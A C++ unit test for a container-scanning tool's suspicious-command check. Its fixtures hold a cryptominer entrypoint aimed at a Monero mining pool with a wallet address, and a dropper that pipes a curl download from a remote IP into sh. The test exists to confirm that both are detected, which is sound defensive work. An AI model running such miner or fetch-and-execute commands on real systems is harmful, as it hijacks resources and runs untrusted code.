#include <gtest/gtest.h>

#include "checks/test_facts.h"

namespace deminer {
extern const Check kContainerSuspiciousCommand;
namespace {

TEST(ContainerSuspiciousCommandCheckTest, MinerOrDropperAsTheCommand) {
  ContainerConfig miner = HardenedContainer("evil");
  miner.entrypoint = {"/tmp/javae"};
  miner.cmd = {"-o", "pool.supportxmr.com:443", "-u",
               "42s7H81wKKbggZsnd5geEeC7ANWUDhkqf7xhdSgaBd9ZE61qwwh7ch1gBQkE5FbvabAdNTeNV18nBNTpioU"
               "qmgHj4h4kks2"};
  ContainerConfig dropper = HardenedContainer("drop");
  dropper.entrypoint = {"sh", "-c", "curl -s http://203.0.113.9/x.sh | sh"};
  const auto out = RunOnConfigs(kContainerSuspiciousCommand, {miner, dropper, HardenedContainer()});
  ASSERT_EQ(out.size(), 2u);
  EXPECT_EQ(out[0].kind, Kind::kCompromise);
  EXPECT_GE(out[0].severity, Severity::kHigh);
  EXPECT_GE(out[1].severity, Severity::kMedium);
}

}  // namespace
}  // namespace deminer
